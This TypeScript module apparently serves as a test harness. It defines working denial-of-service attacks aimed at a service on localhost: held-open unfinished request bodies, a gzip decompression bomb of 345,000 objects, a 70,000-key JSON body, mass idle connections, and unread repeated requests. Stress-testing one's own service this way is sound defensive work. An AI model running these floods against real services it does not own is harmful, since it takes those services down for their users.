// Attacks on a service by clients without an account.
import { connect, type Socket } from "node:net"
import { gzipSync } from "node:zlib"

/** Starts an attack on the service at a URL. It goes on until its thread ends. */
export type Attack = (url: string) => void

const MEGABYTE = 1_048_576
const head = (length: number, more = "") =>
  `POST /v1/get_status HTTP/1.1\r\nHost: x\r\n${more}Content-Length: ${length}\r\n\r\n`

/** Keeps a number of connections open. Each new one is passed to `start`. */
const connections = (url: string, count: number, start: (socket: Socket) => void): void => {
  const open = (): void => {
    const socket = connect(Number(new URL(url).port), "127.0.0.1")
    socket.on("error", () => {})
    socket.on("connect", () => start(socket))
    socket.on("close", () => setTimeout(open, 1000))
  }
  for (let each = 0; each < count; each++) open()
}

/** Sends a request again and again on each connection, whenever a reply arrives. */
const repeating = (request: Uint8Array) => (socket: Socket) => {
  socket.on("data", () => socket.write(request))
  socket.write(request)
}

const withBody = (body: Uint8Array, more = ""): Uint8Array =>
  Buffer.concat([Buffer.from(head(body.length, more)), body])
const objects = gzipSync(`[${"{},".repeat(345_000)}{}]`, { level: 9 })
const keys = Buffer.from(`{${Array.from({ length: 70_000 }, (_, key) => `"key${key}":0`).join()}}`)
const allButTheEnd = Buffer.alloc(MEGABYTE - 1, 120)

export const attacks: Readonly<Record<string, Attack>> = {
  none: () => {},
  "1,000 unfinished bodies of 1 MB": (url) =>
    connections(url, 1000, (socket) => {
      socket.resume().write(head(MEGABYTE))
      socket.write(allButTheEnd)
    }),
  "100 connections with gzip of 345,000 objects": (url) =>
    connections(url, 100, repeating(withBody(objects, "Content-Encoding: gzip\r\n"))),
  "50 connections with 70,000 keys": (url) => connections(url, 50, repeating(withBody(keys))),
  "1,200 idle connections": (url) => connections(url, 1200, () => {}),
  "an unread log": (url) => connections(url, 50, repeating(Buffer.from("GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n")))
}
